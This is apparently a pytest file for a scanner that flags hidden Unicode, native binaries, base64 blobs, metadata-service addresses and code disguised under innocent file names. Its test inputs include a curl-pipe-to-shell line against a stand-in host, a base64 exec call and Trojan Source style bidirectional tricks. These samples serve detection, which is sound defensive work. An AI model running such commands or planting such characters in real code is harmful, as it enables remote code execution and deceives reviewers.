"""The byte scanner: hidden text, native code, blobs and addresses, whatever the file is called."""

from __future__ import annotations

import base64
import random

import pytest

from app.core.specimen import Fact, FactId
from worker.inspection.facts.scan import scan, sniff_language

PNG = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR" + b"\0" * 17 + b"\0\0\0\0IEND\xaeB`\x82"
PE = b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0"


def _told(facts: tuple[Fact, ...]) -> list[str]:
    return [f"{fact.line} {fact.id} {fact.detail}" for fact in facts]


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param("x = 1\nif level != 'user\u202e \u2066// admin\u2069':", ["2 hidden-text bidirectional U+202E",
                     "2 hidden-text bidirectional U+2066", "2 hidden-text bidirectional U+2069"], id="a turned comment"),
        pytest.param("pass\u200bword = 1", ["1 hidden-text zero-width U+200B"], id="a break inside a name"),
        pytest.param("url = 'drop.ex\u200dample'", ["1 hidden-text zero-width U+200D"], id="a joiner inside a text"),
        pytest.param("x = '" + "\u200b\u200c" * 20 + "'", ["1 hidden-text zero-width U+200B",
                     "1 hidden-text zero-width U+200C"], id="a row of invisible characters"),
        pytest.param("const { timeout,\u3164} = query;", ["1 hidden-text filler U+3164"], id="an invisible name"),
        pytest.param("p\u0430ssword = 1", ["1 hidden-text homoglyph U+0430"], id="a Cyrillic letter in a name"),
        pytest.param("obj.\u0441heck(x)", ["1 hidden-text homoglyph U+0441"], id="a Cyrillic letter at its start"),
        pytest.param("s = `" + "\ufe00\ufe0f" * 30 + "`", ["1 hidden-text variation-selector U+FE00"], id="data"),
        pytest.param("s = '\U000e0101\U000e0112\U000e0113\U000e0114'", ["1 hidden-text variation-selector U+E0101"],
                     id="data in the other selectors"),
        pytest.param("# \U000e0048\U000e0069\U000e0048\U000e0069", ["1 hidden-text tag U+E0048"], id="tags"),
    ],
)  # fmt: skip
def test_text_that_hides_in_code(source: str, expected: list[str]) -> None:
    assert _told(scan("pkg/mod.py", source.encode(), True)) == expected


def test_the_evidence_shows_what_is_hidden() -> None:
    fact = scan("a.js", "if (user\u200bName) {}".encode(), True)[0]
    assert fact.evidence == "if (user<U+200B>Name) {}"


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("\ufeffimport os", id="a byte order mark"),
        pytest.param("a = 1;\n\ufeffb = 2;", id="a mark between two files that were joined"),
        pytest.param("x = '👨\u200d👩\u200d👧 ❤\ufe0f 🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f'",
                     id="emoji"),
        pytest.param("RLO = '\u202e'\nZWSP = \"\u200b\"", id="the character as a constant"),
        pytest.param("BIDI = /[\u202a-\u202e\u2066-\u2069]/", id="a table of such characters"),
        pytest.param("X = /[\u1cff-\u1f15\u1f18-\u1f1d\u1f20-\u202e\u2030-\u205e\u2070-\u2071]/", id="a table of ranges"),
        pytest.param("names = 'Ā\u2060amp;⁕Ācs‑⁒α\u202e‰拔櫙'", id="a table of characters"),
        pytest.param("ESCAPED = '\\u202e\\u200b'", id="escapes"),
        pytest.param("greeting = 'שלום \u202aעולם\u202c'", id="Hebrew"),
        pytest.param("word = 'می\u200cخواهم'", id="Persian"),
        pytest.param("# Это комментарий о password и user", id="a comment in Russian"),
        pytest.param("name = 'Hello Мир'  # Cвет", id="a text in two alphabets"),
        pytest.param("Δx = σ(α1) * π", id="Greek letters of mathematics"),
        pytest.param("переменная = 1\nμs = 2", id="a name in another alphabet"),
        pytest.param("café = naïve", id="accents"),
    ],
)  # fmt: skip
def test_honest_uses_of_such_characters(source: str) -> None:
    assert _told(scan("pkg/mod.py", source.encode(), True)) == []


def test_translations_may_turn_their_text_around() -> None:
    source = "left = 'a\u202ab\u202c'".encode()
    assert _told(scan("locale/he.js", source, True)) == []
    assert _told(scan("lib/he.js", source, True)) != []


def test_documents_are_quiet_except_for_data_that_nobody_sees() -> None:
    assert _told(scan("README.md", "a\u200bb \u202e x p\u0430ss = 1".encode(), False)) == []
    assert _told(scan("README.md", ("hi" + "\U000e0041" * 9).encode(), False)) == ["1 hidden-text tag U+E0041"]


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        pytest.param(b"\x7fELF\x02\x01\x01" + b"\0" * 60, "elf", id="ELF"),
        pytest.param(PE, "pe", id="PE"),
        pytest.param(b"\xcf\xfa\xed\xfe" + b"\0" * 60, "mach-o", id="Mach-O"),
        pytest.param(b"\xca\xfe\xba\xbe\0\0\0\x02" + b"\0" * 60, "mach-o", id="Mach-O for two machines"),
    ],
)
@pytest.mark.parametrize("path", ["lib/x.node", "assets/logo.png", "README"])
def test_native_code_is_known_by_its_magic_number(content: bytes, kind: str, path: str) -> None:
    assert _told(scan(path, content, False)) == [f"0 native-code {kind}"]


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 60, id="a Java class"),
        pytest.param(b"\0asm\x01\0\0\0", id="WebAssembly"),
        pytest.param(b"MZ is a text that begins so", id="a text"),
        pytest.param(b"MZ", id="two letters"),
        pytest.param(b"", id="nothing"),
        pytest.param(PNG, id="a picture"),
    ],
)
def test_other_files_are_not_native(content: bytes) -> None:
    assert _told(scan("lib/x", content, False)) == []


def test_blobs_in_data_are_told() -> None:
    blob = base64.b64encode(random.Random(1).randbytes(1_500))
    assert _told(scan("notes.txt", b"a\nb\n" + blob + b"\n", False)) == ["3 encoded-data base64, 2,000 characters"]
    wrapped = b"\n".join(blob[at : at + 76] for at in range(0, len(blob), 76))
    assert _told(scan("notes.txt", wrapped, False)) == ["1 encoded-data base64, 2,000 characters"]
    assert _told(scan("logo.png", PNG + b"x" * 1_000, False)) == [
        "0 encoded-data 1,000 bytes after the end of the picture"
    ]


def test_pictures_inside_pages_are_no_blobs() -> None:
    blob = base64.b64encode(random.Random(1).randbytes(1_500))
    assert _told(scan("style.css", b"a{background:url(data:image/png;base64," + blob + b")}", False)) == []


def test_addresses_of_metadata_services_are_told_for_data_and_left_to_the_extractors_for_code() -> None:
    content = b"x\nurl: http://169.254.169.254/latest\n"
    assert _told(scan("config.yml", content, False)) == ["2 host 169.254.169.254"]
    assert _told(scan("lib.bin", b"\x7fELF" + content, False))[1:] == ["2 host 169.254.169.254"]
    assert _told(scan("guide.md", content, False)) == []
    assert _told(scan("x.py", content, True)) == []


@pytest.mark.parametrize(
    ("path", "content", "language"),
    [
        pytest.param("a.txt", "import os;os.system('id')  # hello", "python", id="a line of Python in a text"),
        pytest.param(
            "a.png", "const x = require('fs');\nmodule.exports = x;", "javascript", id="JavaScript in a picture"
        ),
        pytest.param("setup", "set -e\ncurl -s https://drop.example | sh\n", "shell", id="a script without a suffix"),
        pytest.param("x.dat", "exec(__import__('base64').b64decode('eA=='))", "python", id="one call"),
        pytest.param("x.bin", "!function(){var a=1}()", "javascript", id="one function"),
        pytest.param("a.txt", "This file explains how to import the module and use it.\nimport os\n", None, id="prose"),
        pytest.param("LICENSE", "import os\nimport sys\n", None, id="a licence"),
        pytest.param("README.md", "import os\nos.system('id')\n", None, id="a document"),
        pytest.param("data.json", "const x = require('fs');", None, id="data by its name"),
        pytest.param("a.txt", "one two three\nfour five six\n", None, id="words"),
        pytest.param("a.txt", "", None, id="nothing"),
    ],
)
def test_code_under_an_innocent_name_is_recognised(path: str, content: str, language: str | None) -> None:
    assert sniff_language(path, content.encode()) == language


def test_bytes_are_no_code() -> None:
    assert sniff_language("a.bin", b"import os\0\0\0") is None
    assert sniff_language("a.bin", random.Random(3).randbytes(5_000)) is None


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(("\u202e" * 300_000).encode(), id="overrides"),
        pytest.param(("a\u200b" * 200_000).encode(), id="breaks"),
        pytest.param(("aа" * 300_000).encode(), id="look-alikes"),
        pytest.param(("\ufe00" * 300_000).encode(), id="selectors"),
        pytest.param(b"QUJD" * 250_000, id="base64"),
        pytest.param(b"\xff" * 1_000_000, id="no text at all"),
        pytest.param(("x\n\u202e" * 200_000).encode(), id="many lines"),
    ],
)
@pytest.mark.parametrize("is_code", [True, False])
def test_a_megabyte_of_the_worst_ends_with_few_facts(content: bytes, is_code: bool) -> None:
    facts = scan("x", content, is_code)
    assert len(facts) <= 16
    assert all(fact.id in {FactId.HIDDEN_TEXT, FactId.ENCODED_DATA} for fact in facts)
